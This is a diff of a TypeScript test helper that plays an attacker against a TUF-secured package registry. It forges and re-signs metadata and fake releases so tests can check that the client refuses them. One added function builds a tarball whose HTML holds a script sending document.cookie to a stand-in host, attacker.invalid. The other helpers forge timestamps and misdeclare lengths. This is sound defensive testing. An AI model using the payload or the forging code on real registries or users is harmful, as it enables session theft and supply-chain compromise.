@@ -1,13 +1,6 @@
 // Tools for acting as an attacker on a real gotong registry, for the TUF
-// attack tests (test/security/tuf-*.test.ts).
-//
-// A *scene* is a whole world built once per test file: three administrator
-// keys (root and targets threshold 2 of 3), an online key, Kota Bandung's two
-// publisher keys (ci and lead, threshold 1), Kubu Raya's two (threshold 2 of
-// 2), a bare git registry with four modules, and Kubu Raya's workspace with
-// @bandung/e-musrenbang installed, so the client has trusted metadata,
-// a lockfile, a cache and a tree to lose. `scene.restore()` puts every byte of
-// it back before each test, which keeps each attack independent and the file fast.
+// attack tests (test/security/tuf-*.test.ts); the registry, its users and the
+// checks every test makes are in attack-scene.ts, re-exported here.
 //
 // An *Attacker* is a full git clone of the registry: it edits and re-signs
 // metadata with whatever keys the attack assumes were stolen (through
@@ -17,226 +10,18 @@
 import { execFile } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { promises as fs } from 'node:fs';
-import { dirname, join, relative } from 'node:path';
+import { dirname, join } from 'node:path';
 import { promisify } from 'node:util';
 import { Metadata, MetadataKind, MetaFile, Snapshot, TargetFile, Targets, Timestamp, type Root } from '@tufjs/models';
-import { expect } from 'vitest';
-import { isGotongError, type ErrorCode } from '../../src/core/errors.js';
-import { gotongPaths } from '../../src/core/paths.js';
-import { MemoryReporter } from '../../src/core/reporter.js';
-import { install, type InstallResult } from '../../src/install/install.js';
-import { updateRegistry } from '../../src/publish/registry-update.js';
-import { publish } from '../../src/publish/publish.js';
-import { addNamespace, initRegistry } from '../../src/registry/admin.js';
-import { addRegistry } from '../../src/registry/add.js';
-import { locateRegistry, type RegistryLocation } from '../../src/registry/locate.js';
-import { registrySource } from '../../src/registry/open.js';
 import type { SigningKey } from '../../src/trust/keys.js';
-import { assertRegistryOk, verifyRegistry } from '../../src/trust/verify-registry.js';
-import type { RegistryWriter } from '../../src/trust/writer.js';
-import { makeKey, makeWorld, type KeyFiles, type TestWorld } from './env.js';
-import { writeModule } from './modules.js';
+import type { ExpiryDays } from '../../src/trust/metadata-io.js';
+import { RegistryWriter } from '../../src/trust/writer.js';
+import type { Scene } from './attack-scene.js';
+import { hostileTgz } from './hostile-tar.js';
+
+export * from './attack-scene.js';
 
 const run = promisify(execFile);
-
-export const REGISTRY_NAME = 'nusantara';
-/** The module the victim adds in most attacks: published, not yet installed. */
-export const VICTIM_MODULE = '@bandung/peta-dasar';
-
-export interface SceneKeys {
-  admins: [KeyFiles, KeyFiles, KeyFiles];
-  online: KeyFiles;
-  bandungCi: KeyFiles;
-  bandungLead: KeyFiles;
-  kuburayaA: KeyFiles;
-  kuburayaB: KeyFiles;
-}
-
-export interface Scene {
-  world: TestWorld;
-  keys: SceneKeys;
-  /** The bare git repository: what the git host serves. */
-  url: string;
-  location: RegistryLocation;
-  /** Kubu Raya's workspace, with @bandung/e-musrenbang installed. */
-  workspace: string;
-  /** Puts every file of the world back as it was when the scene was built. */
-  restore(): Promise<void>;
-  cleanup(): Promise<void>;
-}
-
-async function copyTree(from: string, to: string): Promise<void> {
-  await fs.rm(to, { recursive: true, force: true });
-  await fs.cp(from, to, { recursive: true, preserveTimestamps: true, verbatimSymlinks: true });
-}
-
-/** Builds the scene once; call `restore()` before each test. */
-export async function buildScene(): Promise<Scene> {
-  const world = makeWorld('gotong-attack-');
-  const reporter = new MemoryReporter();
-  const env = world.env;
-  const admins = [await makeKey(world, 'admin-1'), await makeKey(world, 'admin-2'), await makeKey(world, 'admin-3')] as SceneKeys['admins'];
-  const keys: SceneKeys = {
-    admins,
-    online: await makeKey(world, 'online'),
-    bandungCi: await makeKey(world, 'bandung-ci'),
-    bandungLead: await makeKey(world, 'bandung-lead'),
-    kuburayaA: await makeKey(world, 'kuburaya-a'),
-    kuburayaB: await makeKey(world, 'kuburaya-b'),
-  };
-  const adminSigners = [admins[0].signer, admins[1].signer];
-  const init = await initRegistry({ target: world.path('registry.git'), name: REGISTRY_NAME, rootSigners: admins.map((a) => a.signer), threshold: 2, onlineKey: keys.online.signer, reporter, env });
-  const direct = await locateRegistry({ flag: init.url, env });
-  await addNamespace({ namespace: 'bandung', location: direct, publisherKeys: [keys.bandungCi.signer, keys.bandungLead.signer], threshold: 1, adminSigners, onlineKey: keys.online.signer, reporter, env });
-  await addNamespace({ namespace: 'kuburaya', location: direct, publisherKeys: [keys.kuburayaA.signer, keys.kuburayaB.signer], threshold: 2, adminSigners, onlineKey: keys.online.signer, reporter, env });
-  await addRegistry({ name: REGISTRY_NAME, url: init.url, rootSha256: init.rootSha256, reporter, env });
-  const location = await locateRegistry({ flag: REGISTRY_NAME, env });
-
-  const modules: Array<[string, Record<string, string>, SigningKey[]]> = [
-    ['@bandung/ui-kit', {}, [keys.bandungCi.signer]],
-    ['@bandung/e-musrenbang', { '@bandung/ui-kit': '^1.0.0' }, [keys.bandungCi.signer]],
-    [VICTIM_MODULE, {}, [keys.bandungCi.signer]],
-    ['@kuburaya/portal', {}, [keys.kuburayaA.signer, keys.kuburayaB.signer]],
-  ];
-  for (const [name, dependencies, signers] of modules) {
-    const dir = await writeModule(world.path('src', name.split('/')[1]), { name, version: '1.0.0', dependencies }, { 'index.html': `<h1>${name}</h1>\n` });
-    await publish({ dir, location, signers, onlineKey: keys.online.signer, reporter, env });
-  }
-  const workspace = world.path('kuburaya-app');
-  await fs.mkdir(workspace);
-  await install({ cwd: workspace, add: ['@bandung/e-musrenbang'], reporter, env });
-
-  const pristine = `${world.root}.pristine`;
-  await copyTree(world.root, pristine);
-  return {
-    world,
-    keys,
-    url: init.url,
-    location,
-    workspace,
-    restore: () => copyTree(pristine, world.root),
-    cleanup: async () => {
-      await world.cleanup();
-      await fs.rm(pristine, { recursive: true, force: true });
-    },
-  };
-}
-
-// ---------------------------------------------------------------- what the victim sees
-
-/** Runs `work` and returns the GOTONG_E_ code it was refused with (failing the test if it succeeded or threw something else). */
-export async function refusal(work: Promise<unknown>): Promise<ErrorCode> {
-  try {
-    await work;
-  } catch (error) {
-    if (isGotongError(error)) return error.code;
-    throw error;
-  }
-  throw new Error('the attack was not refused: the operation succeeded');
-}
-
-/** The victim's everyday command: add a module to Kubu Raya's workspace. */
-export function victimInstall(scene: Scene, add: string[] = [VICTIM_MODULE], env: NodeJS.ProcessEnv = scene.world.env): Promise<InstallResult> {
-  return install({ cwd: scene.workspace, add, reporter: new MemoryReporter(), env });
-}
-
-/** `gotong registry verify` as the command runs it (the pinned registry, read through its git clone). */
-export async function registryVerify(scene: Scene): Promise<void> {
-  const source = await registrySource(scene.location, false, scene.world.env);
-  const result = await verifyRegistry(source);
-  assertRegistryOk(result, scene.location.label);
-}
-
-async function hashTree(root: string): Promise<Record<string, string>> {
-  const out: Record<string, string> = {};
-  async function walk(dir: string): Promise<void> {
-    let entries;
-    try {
-      entries = await fs.readdir(dir, { withFileTypes: true });
-    } catch (error) {
-      if ((error as NodeJS.ErrnoException).code === 'ENOENT') return;
-      throw error;
-    }
-    for (const entry of entries.sort((a, b) => (a.name < b.name ? -1 : 1))) {
-      const path = join(dir, entry.name);
-      const rel = relative(root, path);
-      const stat = await fs.lstat(path);
-      if (entry.isDirectory()) {
-        out[rel + '/'] = `dir ${(stat.mode & 0o777).toString(8)}`;
-        await walk(path);
-      } else if (entry.isSymbolicLink()) {
-        out[rel] = `link ${await fs.readlink(path)}`;
-      } else {
-        out[rel] = `file ${(stat.mode & 0o777).toString(8)} ${createHash('sha256').update(await fs.readFile(path)).digest('hex')}`;
-      }
-    }
-  }
-  await walk(root);
-  return out;
-}
-
-export interface Fingerprint {
-  /** gotong.json, gotong-lock.json and the whole gotong_modules tree. */
-  workspace: Record<string, string>;
-  /** The content cache under GOTONG_HOME. */
-  cache: Record<string, string>;
-  /** Every file of the bare repository the git host serves. */
-  registry: Record<string, string>;
-}
-
-/** What must not change when an attack is refused. */
-export async function fingerprint(scene: Scene): Promise<Fingerprint> {
-  return {
-    workspace: await hashTree(scene.workspace),
-    cache: await hashTree(gotongPaths(scene.world.env).cacheDir),
-    registry: await hashTree(scene.url),
-  };
-}
-
-/**
- * The two checks every attack test makes: the victim's operation is refused
- * with `code`, and the workspace, the cache and the registry are byte for
- * byte what they were before it ran.
- */
-export async function expectRefusedIntact(scene: Scene, code: ErrorCode, work: () => Promise<unknown>): Promise<void> {
-  const before = await fingerprint(scene);
-  expect(await refusal(work())).toBe(code);
-  const after = await fingerprint(scene);
-  expect(after.workspace).toEqual(before.workspace);
-  expect(after.cache).toEqual(before.cache);
-  expect(after.registry).toEqual(before.registry);
-}
-
-/** Versions the client has verified and remembers (its rollback memory). */
-export async function trustedVersions(scene: Scene): Promise<Record<string, number>> {
-  const dir = gotongPaths(scene.world.env).trustDir(REGISTRY_NAME);
-  const out: Record<string, number> = {};
-  for (const name of (await fs.readdir(dir)).filter((n) => n.endsWith('.json')).sort()) {
-    try {
-      out[name.replace(/\.json$/, '')] = (JSON.parse(await fs.readFile(join(dir, name), 'utf8')) as { signed: { version: number } }).signed.version;
-    } catch {
-      // a damaged file has no version
-    }
-  }
-  return out;
-}
-
-// ---------------------------------------------------------------- the legitimate administrators
-
-/** One registry change by the administrators or a publisher, through gotong's own writer. */
-export async function legitimately<T = void>(scene: Scene, build: (writer: RegistryWriter) => Promise<T> | T, options: { now?: Date; message?: string } = {}): Promise<T> {
-  const outcome = await updateRegistry({ location: scene.location, identity: { name: 'admin', email: 'admin@gotong.invalid' }, reporter: new MemoryReporter(), env: scene.world.env, now: options.now }, async (writer) => {
-    const result = await build(writer);
-    return { changed: true, message: options.message ?? 'admin change', result };
-  });
-  return outcome.result;
-}
-
-/** A module version published the normal way. */
-export async function publishVersion(scene: Scene, name: string, version: string, signers: SigningKey[], options: { now?: Date; files?: Record<string, string> } = {}): Promise<void> {
-  const dir = await writeModule(scene.world.path('src', `${name.split('/')[1]}-${version}`), { name, version }, options.files ?? { 'index.html': `<h1>${name} ${version}</h1>\n` });
-  await publish({ dir, location: scene.location, signers, onlineKey: scene.keys.online.signer, reporter: new MemoryReporter(), env: scene.world.env, now: options.now });
-}
 
 // ---------------------------------------------------------------- the attacker
 
@@ -244,8 +29,8 @@ type AnyMeta = Metadata<Root> | Metadata<Targets> | Metadata<Snapshot> | Metadat
 type JSONObject = Parameters<typeof Metadata.fromJSON>[1];
 
 export interface Republish {
-  /** Changes to the snapshot's meta before it is signed. */
-  meta?: (meta: Record<string, MetaFile>) => void;
+  /** New versions of roles in the snapshot (`{ bandung: 4 }`); null leaves a role out. */
+  roles?: Record<string, number | null>;
   snapshotVersion?: number;
   timestampVersion?: number;
   /** Expiry of the new snapshot and timestamp (default: in 7 days). */
@@ -255,7 +40,16 @@ export interface Republish {
 }
 
 export function inDays(days: number, from = new Date()): string {
-  return new Date(from.getTime() + days * 86_400_000).toISOString().replace(/\.\d{3}Z$/, 'Z');
+  return daysFromNow(days, from).toISOString().replace(/\.\d{3}Z$/, 'Z');
+}
+
+export function daysFromNow(days: number, from = new Date()): Date {
+  return new Date(from.getTime() + days * 86_400_000);
+}
+
+/** The bytes followed by spaces up to `size`: still the same JSON, only longer. */
+export function padded(bytes: Buffer, size: number): Buffer {
+  return Buffer.concat([bytes, Buffer.alloc(Math.max(0, size - bytes.length), 0x20)]);
 }
 
 export class Attacker {
@@ -392,7 +186,10 @@ export class Attacker {
     const { timestamp, snapshot } = await this.current();
     const meta: Record<string, MetaFile> = {};
     for (const [name, file] of Object.entries(snapshot.signed.meta)) meta[name] = new MetaFile({ version: file.version, length: file.length, hashes: file.hashes });
-    options.meta?.(meta);
+    for (const [role, version] of Object.entries(options.roles ?? {})) {
+      if (version === null) delete meta[`${role}.json`];
+      else meta[`${role}.json`] = new MetaFile({ version });
+    }
     const snapshotVersion = options.snapshotVersion ?? snapshot.signed.version + 1;
     const timestampVersion = options.timestampVersion ?? timestamp.signed.version + 1;
     const expires = options.expires ?? inDays(7);
@@ -405,17 +202,37 @@ export class Attacker {
   }
 
   /**
+   * Runs gotong's own writer on this working tree, as the administrators or
+   * a publisher would, with its `now` and `expiry` options (e.g. metadata
+   * that expires tomorrow); the caller commits and pushes.
+   */
+  async withWriter(options: { now?: Date; expiry?: Partial<ExpiryDays> }, build: (writer: RegistryWriter) => Promise<void> | void): Promise<void> {
+    const writer = await RegistryWriter.load(this.dir, options);
+    await build(writer);
+    await writer.flush();
+  }
+
+  /** Signs a timestamp (version + 1 unless told) naming the snapshot file of `snapshotVersion` as it is in the tree. */
+  async pointTimestampAt(snapshotVersion: number, signers: SigningKey[], options: { version?: number; expires?: string } = {}): Promise<void> {
+    const { timestamp } = await this.current();
+    const bytes = await this.read(`metadata/${snapshotVersion}.snapshot.json`);
+    const snapshotMeta = new MetaFile({ version: snapshotVersion, length: bytes.length, hashes: { sha256: createHash('sha256').update(bytes).digest('hex') } });
+    const next = new Metadata(new Timestamp({ version: options.version ?? timestamp.signed.version + 1, specVersion: timestamp.signed.specVersion, expires: options.expires ?? inDays(7), snapshotMeta }));
+    await this.writeMeta('metadata/timestamp.json', this.sign(next, signers));
+  }
+
+  /**
    * Writes version N+1 of a namespace role with `targets` added (bytes stored
    * content-addressed as the registry stores them), signed by `signers`, and
    * returns its version; the snapshot is not touched (see `republish`).
    */
-  async forgeRole(role: string, targets: Record<string, Buffer>, signers: SigningKey[], options: { expires?: string; version?: number; declaredLength?: (bytes: Buffer) => number } = {}): Promise<number> {
+  async forgeRole(role: string, targets: Record<string, Buffer>, signers: SigningKey[], options: { expires?: string; version?: number; lengths?: Record<string, number> } = {}): Promise<number> {
     const current = await this.meta(MetadataKind.Targets, await this.roleRel(role));
     const json = current.signed.toJSON() as Record<string, unknown> & { targets: Record<string, unknown> };
     for (const [path, bytes] of Object.entries(targets)) {
       const sha256 = createHash('sha256').update(bytes).digest('hex');
       const sha512 = createHash('sha512').update(bytes).digest('hex');
-      json.targets[path] = new TargetFile({ path, length: options.declaredLength?.(bytes) ?? bytes.length, hashes: { sha256, sha512 } }).toJSON();
+      json.targets[path] = new TargetFile({ path, length: options.lengths?.[path] ?? bytes.length, hashes: { sha256, sha512 } }).toJSON();
       const dir = path.split('/').slice(0, -1).join('/');
       await this.write(`targets/${dir}/${sha256}.${path.split('/').pop()}`, bytes);
     }
@@ -433,4 +250,43 @@ export async function storedTarget(attacker: Attacker, targetPath: string): Prom
   const names = (await fs.readdir(attacker.path(`targets/${dir}`))).filter((n) => n.endsWith(`.${base}`));
   if (names.length !== 1) throw new Error(`expected one stored file for ${targetPath}, found ${names.length}`);
   return `targets/${dir}/${names[0]}`;
+}
+
+// ---------------------------------------------------------------- forged content
+
+/** A well-formed module tarball with content the victim must never get. */
+export function evilTarball(name: string, version: string): Buffer {
+  return hostileTgz([
+    { name: 'gotong.json', data: JSON.stringify({ name, version }) + '\n' },
+    { name: 'index.html', data: '<script>fetch("https://attacker.invalid/?nik="+document.cookie)</script>\n' },
+  ]);
+}
+
+/**
+ * The module index of `fullName` as the registry holds it, plus `version`
+ * pointing at `tarball` (its length may be declared otherwise), ready to be
+ * signed into a forged role.
+ */
+export async function forgedIndex(attacker: Attacker, fullName: string, version: string, tarball: Buffer, declaredLength = tarball.length): Promise<Buffer> {
+  const [namespace, name] = fullName.slice(1).split('/');
+  const index = JSON.parse((await attacker.read(await storedTarget(attacker, `${namespace}/${name}/index.json`))).toString('utf8')) as { versions: Record<string, Record<string, unknown>> };
+  const template = Object.values(index.versions)[0];
+  index.versions[version] = {
+    ...template,
+    target: `${namespace}/${name}/${name}-${version}.tgz`,
+    length: declaredLength,
+    sha256: createHash('sha256').update(tarball).digest('hex'),
+    integrity: 'sha512-' + createHash('sha512').update(tarball).digest('base64'),
+  };
+  return Buffer.from(JSON.stringify(index, null, 2) + '\n');
+}
+
+/** The forged role's targets for a new, evil version of `fullName`. */
+export async function evilRelease(attacker: Attacker, fullName: string, version: string, declaredLength?: number): Promise<Record<string, Buffer>> {
+  const [namespace, name] = fullName.slice(1).split('/');
+  const tarball = evilTarball(fullName, version);
+  return {
+    [`${namespace}/${name}/${name}-${version}.tgz`]: tarball,
+    [`${namespace}/${name}/index.json`]: await forgedIndex(attacker, fullName, version, tarball, declaredLength),
+  };
 }
